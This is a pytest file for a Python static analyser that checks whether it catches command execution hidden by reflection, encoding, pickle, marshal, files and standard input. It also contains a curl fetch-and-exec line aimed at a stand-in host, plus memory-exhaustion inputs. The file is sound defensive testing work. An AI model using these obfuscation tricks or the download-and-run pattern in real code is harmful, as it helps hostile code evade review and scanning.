"""What the evaluator understands: names by reflection, text by its making, code by files and standard input."""

from __future__ import annotations

import gzip
import hashlib
import json
import marshal
import uuid

import pytest

from pratique.artifact import Member, Role
from pratique.facts.python.model import Call, Does, Source
from pratique.facts.python.reader import read_python

CODE = "import os\nos.system('id')\n"
_MARSHALLED = marshal.dumps(compile(CODE, "<inert>", "exec"))
_XORED = [b ^ 7 for b in CODE.encode()]
_SPELLED = uuid.UUID(bytes=b"os.system('id')#")


def _calls(source: str) -> list[Call]:
    data = source.encode()
    member = Member(path="m.py", data=data, sha256=hashlib.sha256(data).hexdigest(), size=len(data), role=Role.MODULE)  # type: ignore[arg-type]
    return list(read_python(member).calls)


def _commands(source: str) -> list[str]:
    return [c.arguments["0"].text for c in _calls(source) if Does.RUN_PROCESS in c.does and "0" in c.arguments]


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.__dict__.get('system')('id')",
        "import sys\nsys.modules.get('os').system('id')",
        "import tempfile\ntempfile._os.system('id')",
        f"__builtins__['exec']({CODE!r})",
        f"print.__self__.exec({CODE!r})",
        "import os\n(lambda: 0).__globals__['os'].system('id')",
        "import sys, os\nsys._getframe().f_globals['os'].system('id')",
        "import os\nos.__getattribute__('system')('id')",
        "import inspect, os\ninspect.getattr_static(os, 'system')('id')",
        "import operator, os\noperator.attrgetter('system')(os)('id')",
        "import operator, os\noperator.methodcaller('system', 'id')(os)",
        "import operator, os\noperator.itemgetter('system')(vars(os))('id')",
        "import os\n[getattr(os, n) for n in dir(os) if n == 'system'][0]('id')",
        "import pkgutil\npkgutil.resolve_name('os:system')('id')",
        "import os\ngetattr(os, os.system.__name__)('id')",
        "n = {}\nexec('import os as o', n)\nn['o'].system('id')",
        "import os\neval('f(c)', {'f': os.system, 'c': 'id'})",
        f"exec('exec(' + repr({CODE!r}) + ')')",
        f"def f(): ...\nf.__code__ = compile({CODE!r}, '', 'exec')\nf()",
        "''.__class__.__mro__[1].__subclasses__()[137].__init__.__globals__['system']('id')",
        "import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').system('id')",
        f"import timeit\ntimeit.Timer({CODE!r}).timeit(1)",
    ],
)
def test_a_name_is_followed_through_reflection(source: str) -> None:
    """What reaches a name without writing it reaches the same call."""
    assert "id" in _commands(source)


@pytest.mark.parametrize(
    "source",
    [
        f"exec('%(a)s%(b)s' % {{'a': {CODE[:9]!r}, 'b': {CODE[9:]!r}}})",
        f"import string\nexec(string.Template('$a$b').substitute(a={CODE[:9]!r}, b={CODE[9:]!r}))",
        f"exec({CODE.replace('o', chr(1))!r}.translate({{1: 'o'}}))",
        f"exec({CODE.translate(str.maketrans('os', 'so'))!r}.translate(str.maketrans('so', 'os')))",
        f"a = bytearray()\nfor i in {list(CODE.encode())!r}:\n    a.append(i)\nexec(bytes(a))",
        f"a = bytearray({bytes(b ^ 1 for b in CODE.encode())!r})\nfor i in range(len(a)):\n    a[i] ^= 1\nexec(a)",
        f"import array\nexec(array.array('B', {list(CODE.encode())!r}).tobytes())",
        f"n = {int.from_bytes(CODE.encode(), 'little')}\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'little'))",
        f"exec(bytes.fromhex(hex({int.from_bytes(CODE.encode(), 'big')})[2:]))",
        f"import json\nexec(json.loads({json.dumps([CODE])!r})[0])",
        f"exec({CODE.encode('utf-16-le')!r}.decode('utf-16-le'))",
        f"import gzip, io\nexec(gzip.open(io.BytesIO({gzip.compress(CODE.encode(), mtime=0)!r})).read())",
        f"from itertools import cycle\nexec(bytes(a ^ b for a, b in zip({_XORED!r}, cycle([7]))))",
        f"exec(''.join(c for _, c in sorted({sorted(enumerate(CODE), key=lambda p: p[0] * 7919 % 1009)!r})))",
        f"d = {list(CODE.encode())!r}\nr = ''\nwhile d:\n    r += chr(d.pop(0))\nexec(r)",
        f"def r(s):\n    return s[-1] + r(s[:-1]) if s else ''\n\nexec(r({CODE[::-1]!r}))",
        f"from functools import reduce\nexec(reduce(lambda a, b: a + chr(b), {[ord(c) for c in CODE]!r}, ''))",
        f"import os, uuid\nexec(uuid.UUID({str(_SPELLED)!r}).bytes)",
        f"import marshal\nexec(marshal.loads({_MARSHALLED!r}))",
        "import pickle\npickle.loads(b'cos\\nsystem\\n(Vid\\ntR.')",
    ],
)
def test_a_text_is_computed_however_it_is_put_together(source: str) -> None:
    """Text that is built, decoded or kept as data runs as it would."""
    assert "id" in _commands(source)


@pytest.mark.parametrize(
    "source",
    [
        f"open('/tmp/x', 'w').write({CODE!r})\nexec(open('/tmp/x').read())",
        f"import os\nos.environ['C'] = {CODE!r}\nexec(os.environ['C'])",
        f"f = open('/tmp/x', 'w')\nprint({CODE!r}, file=f)\nexec(open('/tmp/x').read())",
        "import os\nopen('/tmp/x.sh', 'w').write('id')\nos.system('sh /tmp/x.sh')",
        "import subprocess\nsubprocess.run(['sh'], input='id')",
        "import subprocess\nsubprocess.Popen('sh', stdin=-1).communicate(b'id')",
        "import subprocess\np = subprocess.Popen(['bash'], stdin=-1)\np.stdin.write(b'id')",
        "import os\nos.popen('sh', 'w').write('id')",
        "import subprocess\nsubprocess.run('$X', shell=True, env={'X': 'id'})",
        f"import subprocess, sys\nsubprocess.run([sys.executable, '-'], input={CODE!r})",
    ],
)
def test_code_is_followed_through_files_variables_and_standard_input(source: str) -> None:
    """Where it is put and from where it is taken again are one way."""
    assert "id" in _commands(source)


def test_what_a_command_downloads_is_of_the_network() -> None:
    """Code that another process fetched is fetched code."""
    source = "import subprocess\nexec(subprocess.check_output(['curl', '-s', 'http://192.0.2.7/a']))"
    ran = next(c for c in _calls(source) if c.name == "exec")
    assert [t.detail for t in ran.taints(Source.NETWORK)] == ["http://192.0.2.7/a"]


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.environ['LANG'] = 'C'\nX = os.environ['LANG']",
        "import os\nopen('/tmp/x', 'w').write('id')\nX = open('/tmp/x').read()",
        "import subprocess\nsubprocess.run(['cat'], input='id')",
        "import operator\nX = sorted([('a', 1)], key=operator.itemgetter(1))",
        "import marshal\nX = marshal.loads(marshal.dumps([1]))",
        "import pickle\nX = pickle.loads(pickle.dumps([1]))",
        "class A: ...\nX = vars(A)\nY = dir(A)",
    ],
)
def test_honest_uses_run_nothing_more(source: str) -> None:
    """The same constructs without code in them add no command."""
    assert "id" not in _commands(source)


@pytest.mark.parametrize(
    "source",
    [
        "x = 'a'\n" + "x = x + x\n" * 60,
        "n = 1 << 9999999999\nn = n ** n",
        "import struct\nX = struct.pack('99999999999s', b'')",
        "X = '{a}' * 100000\nX = X.format(a='b' * 1000000)",
        "a = bytearray(9999999999)\na *= 9999999999",
        f"n = 0x{'f' * 90_000}\nX = n * n * n\nY = str(n) + repr(n)",
        "{bytearray(b'a'): 1}\nX = [bytearray(b'b')]\nif u: X = bytearray(b'c')\nX = bytearray(b'd')",
    ],
)
def test_building_is_bounded(source: str) -> None:
    """Nothing that grows is built further than its bound."""
    assert _calls(source) == []
